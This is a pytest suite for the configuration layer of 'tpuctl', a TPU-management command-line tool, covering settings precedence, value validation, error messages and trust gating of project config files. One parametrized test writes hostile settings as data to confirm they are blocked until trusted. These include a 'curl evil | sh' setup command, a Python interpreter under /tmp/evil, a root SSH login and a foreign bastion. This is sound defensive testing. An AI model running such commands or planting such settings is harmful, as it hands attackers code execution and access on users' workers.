"""Settings precedence: flags > env > ./tpuctl.yaml > user file > defaults, with sources."""

import json
import subprocess
import sys

import pytest
import yaml

from tpuctl import catalog, config
from tpuctl.errors import TpuctlError


@pytest.fixture
def clean_env(tmp_path, monkeypatch):
    """No TPUCTL_* variables, XDG dirs under tmp_path, cwd an empty project dir."""
    for var in config.ENV_KEYS:
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg-state"))
    project = tmp_path / "project"
    project.mkdir()
    monkeypatch.chdir(project)
    return tmp_path


def write_user_file(tmp_path, data):
    path = tmp_path / "xdg-config" / "tpuctl" / "config.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data))
    return path


def test_each_layer_overrides_the_one_below(clean_env, monkeypatch):
    user_file = write_user_file(clean_env, {"zone": "user-zone", "project": "user-proj"})
    (clean_env / "project" / "tpuctl.yaml").write_text("zone: project-zone\nbucket: b1\n")
    config.trust_project_file()  # bucket applies from a trusted file only
    assert config.load().get("zone") == "project-zone"
    assert config.load().source("bucket") == "./tpuctl.yaml"
    assert config.load().get("project") == "user-proj"
    assert config.load().source("project") == str(user_file)
    assert config.load().source("zone") == "./tpuctl.yaml"

    monkeypatch.setenv("TPUCTL_ZONE", "env-zone")
    settings = config.load()
    assert (settings.get("zone"), settings.source("zone")) == ("env-zone", "env TPUCTL_ZONE")

    settings = config.load({"zone": "flag-zone", "project": None})
    assert (settings.get("zone"), settings.source("zone")) == ("flag-zone", "flag --zone")
    assert settings.get("project") == "user-proj"  # a None flag is "not given"


def test_only_keys_that_pick_among_your_own_nodes_zones_and_connections_need_no_trust():
    """A new key needs `tpuctl config trust` in a ./tpuctl.yaml unless added here on purpose."""
    harmless = {key for key in config.KNOWN_KEYS if not config.needs_trust(key)}
    assert harmless == {"zone", "node", "provider", "ssh.internal_ip", "ssh.reuse", "worker.platform"}  # fmt: skip
    fields = {f for f in config.ACCELERATOR_FIELDS if not config.needs_trust(f"accelerators.v3-8.{f}")}  # fmt: skip
    assert fields == {"zone", "zones"}


@pytest.mark.parametrize(
    ("data", "key"),
    [
        ({"worker": {"setup": "curl evil | sh"}}, "worker.setup"),
        ({"worker": {"python_version": "/tmp/evil/python"}}, "worker.python_version"),
        ({"bucket": "theirs"}, "bucket"),
        ({"project": "theirs"}, "project"),
        ({"accelerators": {"v3-8": {"project": "theirs"}}}, "accelerators.v3-8.project"),
        ({"ssh": {"key": "./deploy_key"}}, "ssh.key"),
        ({"ssh": {"proxy_jump": "their-bastion"}}, "ssh.proxy_jump"),
        ({"ssh": {"user": "root"}}, "ssh.user"),
    ],
)
def test_a_project_file_choosing_code_files_or_logins_applies_only_once_trusted(
    clean_env, data, key
):
    project = clean_env / "project" / "tpuctl.yaml"
    project.write_text(yaml.safe_dump({"zone": "us-east1-d", **data}))
    with pytest.raises(TpuctlError) as info:
        config.load()
    assert str(info.value) == (
        f"./tpuctl.yaml ({project}) is not trusted and sets {key}, which choose what runs on "
        "your workers, where your files and TPUs go or how you log in: review "
        "./tpuctl.yaml, then run `tpuctl config trust`"
    )
    review = config.load(review=True)  # `config show`: there, marked, with the reason
    assert review.source(key) == "./tpuctl.yaml (untrusted)"
    assert review.source("zone") == "./tpuctl.yaml"
    assert review.untrusted == str(info.value)

    assert config.trust_project_file() == (project, [key])
    assert config.load().source(key) == "./tpuctl.yaml"
    project.write_text(project.read_text() + "# edited\n")
    with pytest.raises(TpuctlError, match=r"changed since you trusted it and sets "):
        config.load()


def test_a_project_file_of_harmless_keys_applies_without_trust(clean_env):
    (clean_env / "project" / "tpuctl.yaml").write_text(
        "zone: us-east1-d\nnode: mine\nprovider: local\nssh: {internal_ip: true, reuse: off}\n"
        "worker: {platform: cpu}\naccelerators: {v3-8: {zone: a-b1-c, zones: [d-e1-f]}}\n"
    )
    settings = config.load()
    assert settings.get("accelerators.v3-8.zones") == ["d-e1-f"]
    assert {source for _key, _value, source in settings.items()} == {"./tpuctl.yaml", "default"}


def test_an_unreadable_trust_record_trusts_nothing(clean_env):
    (clean_env / "project" / "tpuctl.yaml").write_text("bucket: b1\n")
    config.trust_project_file()
    config.trust_store_path().write_text("[not a mapping]")
    with pytest.raises(TpuctlError, match="is not trusted"):
        config.load()


def test_defaults_and_their_source(clean_env):
    settings = config.load()
    assert settings.get("provider") == "cloud"
    assert settings.source("provider") == "default"
    assert settings.get("ssh.internal_ip") is False
    # `config show` listed it unset, though connections were held 5 minutes
    assert (settings.get("ssh.reuse"), settings.source("ssh.reuse")) == ("5m", "default")
    assert settings.get("zone") is None
    assert settings.get("zone", "fallback") == "fallback"


def test_dirs_follow_xdg(clean_env):
    assert config.config_dir() == clean_env / "xdg-config" / "tpuctl"
    assert config.state_dir() == clean_env / "xdg-state" / "tpuctl"


def test_per_accelerator_defaults_from_nested_yaml(clean_env):
    write_user_file(
        clean_env,
        {
            "accelerators": {
                "v3-8": {"zone": "us-central1-a"},
                "v3-256": {"zone": "us-east1-d", "project": "ai2-tpu", "zones": ["europe-west4-a"]},
            }
        },
    )
    settings = config.load()
    assert settings.get("accelerators.v3-256.zone") == "us-east1-d"
    assert config.accelerator_settings(settings, "v3-256") == {
        "zone": "us-east1-d",
        "project": "ai2-tpu",
        "zones": ["europe-west4-a"],
    }
    assert config.accelerator_settings(settings, "v4-8") == {}


def test_per_accelerator_defaults_under_an_alias_of_the_type_apply_too(clean_env):
    """`config set accelerators.v5e-16.zone` was accepted and shown, then ignored by `up`."""
    write_user_file(
        clean_env,
        {
            "accelerators": {
                "v5e-16": {"zone": "europe-west4-a", "zones": ["us-east5-b"]},
                "V5LITEPOD-16": {"project": "p2"},
                "v5litepod-16": {"zone": "us-west4-a"},
            }
        },
    )
    assert config.accelerator_settings(config.load(), "v5litepod-16") == {
        "zone": "us-west4-a",  # the canonical name's own wins
        "zones": ["us-east5-b"],
        "project": "p2",
    }


def test_config_set_writes_the_user_file_and_keeps_other_keys(clean_env):
    config.set_user_value("project", "ai2-tpu")
    path, zones = config.set_user_value("accelerators.v3-256.zones", "us-east1-d, europe-west4-a")
    assert zones == ["us-east1-d", "europe-west4-a"]
    config.set_user_value("ssh.internal_ip", "yes")
    data = yaml.safe_load(path.read_text())
    assert data == {
        "project": "ai2-tpu",
        "accelerators": {"v3-256": {"zones": ["us-east1-d", "europe-west4-a"]}},
        "ssh": {"internal_ip": True},
    }
    assert config.load().get("ssh.internal_ip") is True


def test_unknown_key_is_refused_with_the_known_keys(clean_env):
    with pytest.raises(TpuctlError, match=r"unknown config key 'zonee'.*zone"):
        config.set_user_value("zonee", "x")
    with pytest.raises(TpuctlError, match=r"accelerators\.TYPE\.zone"):
        config.set_user_value("accelerators.v3-8.region", "x")


def test_bad_values_name_the_key_and_where_they_came_from(clean_env, monkeypatch):
    monkeypatch.setenv("TPUCTL_SSH_INTERNAL_IP", "maybe")
    with pytest.raises(TpuctlError, match=r"ssh.internal_ip from env TPUCTL_SSH_INTERNAL_IP"):
        config.load()
    monkeypatch.delenv("TPUCTL_SSH_INTERNAL_IP")
    monkeypatch.setenv("TPUCTL_PROVIDER", "aws")
    with pytest.raises(TpuctlError, match=r"provider 'aws' \(from env TPUCTL_PROVIDER\)"):
        config.load()


def test_broken_yaml_is_a_one_line_error_naming_the_file(clean_env):
    (clean_env / "project" / "tpuctl.yaml").write_text("zone: [unclosed\n")
    with pytest.raises(TpuctlError, match=r"tpuctl.yaml line \d+: not valid YAML"):
        config.load()


# -- tpuctl config show / set -----------------------------------------------------------


def test_config_set_then_show_with_sources(clean_env, run_tpuctl, monkeypatch):
    result = run_tpuctl("config", "set", "accelerators.v3-256.zone", "us-east1-d")
    assert result.code == 0, result.err
    assert run_tpuctl("config", "set", "project", "ai2-tpu").code == 0
    monkeypatch.setenv("TPUCTL_ZONE", "us-central1-a")
    shown = json.loads(run_tpuctl("config", "show", "--json").out)
    user_file = str(clean_env / "xdg-config" / "tpuctl" / "config.yaml")
    assert shown["accelerators.v3-256.zone"] == {"value": "us-east1-d", "source": user_file}
    assert shown["project"] == {"value": "ai2-tpu", "source": user_file}
    assert shown["zone"] == {"value": "us-central1-a", "source": "env TPUCTL_ZONE"}
    assert shown["provider"] == {"value": "cloud", "source": "default"}
    table = run_tpuctl("config", "show").out
    zone_row = next(line.split() for line in table.splitlines() if line.split()[:1] == ["zone"])
    assert zone_row == ["zone", "us-central1-a", "env", "TPUCTL_ZONE"]
    assert any(line.split() == ["bucket", "-", "unset"] for line in table.splitlines())


def test_config_set_unknown_key_is_a_one_line_error(clean_env, run_tpuctl):
    result = run_tpuctl("config", "set", "zonee", "x")
    assert result.code == 2
    assert result.err.startswith(
        "error: unknown config key 'zonee' (did you mean 'zone'?); known keys: project, zone"
    )
    assert "Traceback" not in result.err


def test_config_set_writes_through_a_link_and_says_what_it_wrote(
    clean_env, run_tpuctl, monkeypatch, tmp_path
):
    """A config file kept in a dotfiles repo stays a link; the value echoed is the one
    written, not one an environment variable or a broken project file decides."""
    dotfile = tmp_path / "dotfiles" / "tpuctl.yaml"
    dotfile.parent.mkdir()
    dotfile.write_text("project: ai2-tpu\n")
    config.user_config_path().parent.mkdir(parents=True, exist_ok=True)
    config.user_config_path().symlink_to(dotfile)
    (clean_env / "project" / "tpuctl.yaml").write_text("ssh: {user: 'bad user'}\n")
    monkeypatch.setenv("TPUCTL_ZONE", "us-east1-d")
    result = run_tpuctl("config", "set", "zone", "europe-west4-a")
    assert result.code == 0, result.err
    assert result.out.splitlines() == [
        f"zone = 'europe-west4-a' written to {dotfile}",
        "note: TPUCTL_ZONE is set in this shell and overrides it here",
    ]
    assert config.user_config_path().is_symlink()
    assert yaml.safe_load(dotfile.read_text()) == {"project": "ai2-tpu", "zone": "europe-west4-a"}


def test_config_set_from_many_processes_at_once_keeps_every_key(clean_env):
    keys = [f"accelerators.{kind.name}.zone" for kind in catalog.all_types()[:8]]
    setters = [
        subprocess.Popen([sys.executable, "-m", "tpuctl", "config", "set", key, f"zone-{i}"])
        for i, key in enumerate(keys)
    ]
    assert [p.wait(timeout=120) for p in setters] == [0] * len(keys)
    settings = config.load()
    assert [settings.get(key) for key in keys] == [f"zone-{i}" for i in range(len(keys))]


def test_config_set_refuses_a_reuse_a_bucket_and_a_type_that_cannot_work(clean_env, run_tpuctl):
    """Both used to be written; ssh.reuse then failed the first command that fanned out."""
    for args, message in [
        (("ssh.reuse", "foo"), "error: ssh.reuse 'foo' is not a duration"),
        (("accelerators..zone", "x"), "error: unknown config key 'accelerators..zone'"),
        (("bucket", "Bad Bucket!"), "error: bucket 'Bad Bucket!' is not a bucket name"),
        (
            ("accelerators.v9-8.zone", "x"),
            "error: accelerators.v9-8.zone: unknown TPU generation 'v9' in 'v9-8'",
        ),
        (
            ("worker.platform", "gpu"),  # `run` refused it only after uploading the recipe
            "error: worker.platform 'gpu' (from tpuctl config set worker.platform) must be "
            "one of auto, cpu, tpu",
        ),
    ]:
        result = run_tpuctl("config", "set", *args)
        assert result.code == 2 and result.err.startswith(message), result.err
    assert not config.user_config_path().exists()
    assert run_tpuctl("config", "set", "ssh.reuse", "off").code == 0


def test_config_set_refuses_a_zone_project_or_node_that_every_command_refuses(
    clean_env, run_tpuctl
):
    """They were written, and then `up`, `list`, `status`, ... each failed on the file's
    value until it was edited by hand."""
    for args, message in [
        (("zone", "us central1-a"), "error: zone 'us central1-a' is not a Cloud zone name"),
        (("project", "My Project"), "error: project 'My Project' is not a Cloud project name"),
        (("node", "My_Node"), "error: node name 'My_Node' is not a valid TPU node id"),
        (
            ("accelerators.v3-8.zones", "us-central1-a,europe west4"),
            "error: zone 'europe west4' is not a Cloud zone name",
        ),
        (("accelerators.v3-8.project", "P!"), "error: project 'P!' is not a Cloud project name"),
    ]:
        result = run_tpuctl("config", "set", *args)
        assert result.code == 2 and result.err.startswith(message), result.err
    assert not config.user_config_path().exists()
    assert (
        run_tpuctl("config", "set", "accelerators.v3-8.zones", "us-east1-d,europe-west4-a").code
        == 0
    )
    assert run_tpuctl("config", "set", "node", "").code == 0  # an empty value clears it


@pytest.mark.parametrize(
    ("text", "key", "nearest"),
    [
        ("provder: local\n", "provder", "provider"),
        ("ssh:\n  usr: bob\n", "ssh.usr", "ssh.user"),
        ("zoen: europe-west4-a\n", "zoen", "zone"),
        ("accelerators: {v3-8: {zoen: x}}\n", "accelerators.v3-8.zoen", "accelerators.v3-8.zone"),
    ],
)
def test_a_misspelt_key_in_either_config_file_is_a_one_line_error(
    clean_env, run_tpuctl, text, key, nearest
):
    """They were ignored without a word: `config show` showed the defaults, not the typo."""
    user_file = config.user_config_path()
    user_file.parent.mkdir(parents=True)
    for path, shown in [(clean_env / "project" / "tpuctl.yaml", "./tpuctl.yaml"), (user_file, str(user_file))]:  # fmt: skip
        path.write_text(text)
        result = run_tpuctl("config", "show")
        assert result.code == 2, result.out
        assert result.err.startswith(
            f"error: {shown}: unknown config key {key!r} (did you mean {nearest!r}?); known keys: "
        ), result.err
        assert result.err.count("\n") == 1
        path.unlink()


def test_a_section_with_every_line_commented_out_is_no_unknown_key(clean_env):
    (clean_env / "project" / "tpuctl.yaml").write_text("worker:\n#  python: python3\nssh:\n")
    assert config.load().get("worker") is None


def test_an_accelerator_type_that_does_not_exist_in_a_file_is_a_one_line_error(clean_env):
    """`up v3-256` would never have used a zone set for `v3-265`."""
    write_user_file(clean_env, {"accelerators": {"v3-265": {"zone": "us-east1-d"}}})
    with pytest.raises(TpuctlError) as info:
        config.load()
    assert str(info.value) == (
        f"{config.user_config_path()}: accelerators.v3-265.zone: 'v3-265' is not a v3 slice "
        "size; nearest valid: v3-128 or v3-256"
    )


def test_config_show_prints_lists_of_numbers(clean_env, run_tpuctl):
    (clean_env / "project" / "tpuctl.yaml").write_text("worker: {uv_args: [--index-url, 1]}\n")
    shown = run_tpuctl("config", "show")
    assert shown.code == 0, shown.err
    assert "--index-url, 1" in shown.out


def test_config_set_of_a_bad_user_name_writes_nothing(clean_env, run_tpuctl):
    """It used to write the value, then refuse it: every later command failed on the file."""
    result = run_tpuctl("config", "set", "--", "ssh.user", "bad user")
    assert result.code == 2 and "is not a user name" in result.err
    assert not config.user_config_path().exists()
    assert run_tpuctl("config", "show").code == 0


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"node": 123}, "must be a string, not 123"),
        ({"zone": ["a", "b"]}, "must be a string, not ['a', 'b']"),
        ({"accelerators": [1, 2]}, "must map each type to its settings"),
        ({"accelerators": {"v3-8": "us-central1-a"}}, "must map each type to its settings"),
        ({"accelerators": {"v3-8": {"zones": 5}}}, "must be a list of zone names, not 5"),
        ({"accelerators": {"v3-8": {"runtime_version": 7}}}, "must be a string, not 7"),
    ],
)
def test_config_values_of_the_wrong_type_are_one_line_errors(clean_env, data, message):
    """Each was a TypeError traceback in `up`, `status` or `config show`."""
    write_user_file(clean_env, data)
    with pytest.raises(TpuctlError) as info:
        config.load()
    assert message in str(info.value) and "\n" not in str(info.value)
